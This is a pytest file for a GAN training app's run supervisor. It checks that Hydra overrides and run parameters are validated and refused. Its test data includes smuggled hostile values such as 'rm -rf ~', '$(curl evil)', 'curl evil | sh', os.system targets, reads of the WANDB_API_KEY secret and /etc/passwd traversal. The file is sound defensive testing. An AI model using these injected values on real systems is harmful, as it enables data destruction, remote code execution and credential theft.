"""Run parameters: typed overrides out, hostile input refused before anything starts."""

import pytest

from gan.limits import Limits
from gan.run_params import ParamError, RunParams, to_overrides, validate
from gan.runs import RunError, Supervisor

HOSTILE = [  # (RunParams fields, words the refusal must contain)
    ({"overrides": "model._target_=os.system"}, "not allowed"),
    ({"overrides": "+trainer.foo=1"}, "adding (+, ++) or deleting (~)"),
    ({"overrides": "++x=1"}, "adding (+, ++) or deleting (~)"),
    ({"overrides": "~model.loss"}, "adding (+, ++) or deleting (~)"),
    ({"overrides": "hydra.run.dir=/"}, "'hydra.run.dir' is not allowed"),
    ({"overrides": "optim.lr=${oc.env:WANDB_API_KEY}"}, "interpolations"),
    ({"overrides": "model.beta1=${oc.env:WANDB_API_KEY}"}, "interpolations"),
    ({"overrides": "model.beta1=0.5; rm -rf ~"}, "cannot parse"),
    ({"overrides": "model.beta1=$(curl evil)"}, "cannot parse"),
    ({"overrides": "model.beta1=0.1,0.9"}, "sweeps"),
    ({"overrides": "model@hydra=1"}, "packages"),
    ({"overrides": "model.beta1=7"}, "between 0 and 0.999"),
    ({"overrides": "model.spectral_norm=yes please"}, "true or false"),
    ({"overrides": "ckpt_path=/etc/passwd"}, "inside"),
    ({"overrides": "ckpt_path=../../etc/last.ckpt"}, "inside"),
    ({"overrides": "run_dir=/tmp/x"}, "'run_dir' is not allowed"),
    ({"epochs": -1}, "Epochs must be between 1"),
    ({"epochs": 2.5}, "whole number"),
    ({"epochs": True}, "finite number"),
    ({"batch_size": 10**9}, "Batch size must be between 1 and 4096"),
    ({"batch_size": "10**9"}, "must be a number"),
    ({"lr_g": float("nan")}, "finite number"),
    ({"loss": "hinge; rm -rf /"}, "Loss must be one of"),
    ({"dataset": "../../etc"}, "Dataset must be one of"),
    ({"logger": "wandb", "W&B project": "x && curl evil | sh"}, "W&B project"),
    ({"shell": "rm -rf /"}, "unknown run parameter"),
]


@pytest.mark.parametrize("fields,words", HOSTILE, ids=[str(f) for f, _ in HOSTILE])
def test_hostile_input_is_refused_and_starts_nothing(tmp_path, fields, words):
    sup = Supervisor(tmp_path, limits=Limits())
    with pytest.raises(ParamError) as err:
        sup.start({**RunParams().to_dict(), **fields})
    assert words in str(err.value)
    assert list(tmp_path.iterdir()) == [] and sup.procs == {}


@pytest.mark.parametrize("run_id,words", [
    ("../../etc", "not a run id"), ("/etc", "not a run id"), ("20260101-000000-abcd/../../x", "not a run id"),
    ("20260101-000000-abcd; rm -rf /", "not a run id"), (42, "not a run id"), ("", "no run picked"),
    (None, "no run picked"), ("20260101-000000-abcd", "no run '20260101-000000-abcd'")])
def test_bad_run_ids_are_refused(tmp_path, run_id, words):
    sup = Supervisor(tmp_path, limits=Limits())
    with pytest.raises(RunError, match=words):
        sup.status(run_id)
    with pytest.raises(RunError, match=words):
        sup.stop(run_id)
    assert list(tmp_path.iterdir()) == []


def test_fields_become_typed_overrides(tmp_path):
    ckpt = tmp_path / "20260101-000000-abcd" / "checkpoints" / "last.ckpt"
    ckpt.parent.mkdir(parents=True)
    ckpt.write_bytes(b"x")
    p = validate(RunParams(dataset="fashion_mnist", model="mlp", loss="lsgan", epochs=3.0,
                           batch_size="32", logger="wandb", wandb_project="my-proj", limit_batches=5,
                           overrides="model.beta1=0.5\nmodel.spectral_norm=false\n"
                                     "ckpt_path=20260101-000000-abcd/checkpoints/last.ckpt"))
    out = to_overrides(p, tmp_path)
    assert out[:6] == ["data=fashion_mnist", "model=mlp", "model.loss=lsgan", "logger=wandb",
                       "trainer.max_epochs=3", "data.batch_size=32"]
    assert {"logger.wandb.project=my-proj", "trainer.limit_train_batches=5", "model.beta1=0.5",
            "model.spectral_norm=false", f"ckpt_path='{ckpt.resolve()}'"} <= set(out)


def test_space_bounds_or_disables_training(tmp_path, monkeypatch):
    monkeypatch.setenv("SPACE_ID", "someone/cgan-studio")
    monkeypatch.delenv("GAN_SPACE_TRAINING", raising=False)
    with pytest.raises(RunError, match="off on this Space"):
        Supervisor(tmp_path).start(RunParams())
    monkeypatch.setenv("GAN_SPACE_TRAINING", "1")
    monkeypatch.setenv("GAN_MAX_RUNS", "4")
    assert Supervisor(tmp_path).max_running == 1  # one run at a time on a Space, whatever the env says
    with pytest.raises(ParamError, match="Epochs must be between 1 and 3"):
        Supervisor(tmp_path).start(RunParams(epochs=10, limit_batches=10))
    with pytest.raises(ParamError, match=r"Batches per epoch \(0 = all\) must be between 1 and 200"):
        Supervisor(tmp_path).start(RunParams(epochs=1))
    assert list(tmp_path.iterdir()) == []
